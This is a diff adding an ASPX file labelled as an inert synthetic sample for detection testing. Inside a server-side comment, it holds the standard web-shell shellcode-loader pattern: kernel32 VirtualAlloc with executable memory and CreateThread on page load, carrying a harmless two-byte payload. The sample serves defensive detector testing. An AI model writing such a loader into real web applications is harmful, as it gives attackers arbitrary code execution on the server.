@@ -1,0 +1,3 @@
+<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
+<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p); [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr st, IntPtr p, uint f, IntPtr i); void Page_Load(object o, EventArgs e) { byte[] b = new byte[2] { 0x90, 0xc3 }; IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, 0x40); Marshal.Copy(b, 0, m, b.Length); CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, IntPtr.Zero); }</script>
+--%>
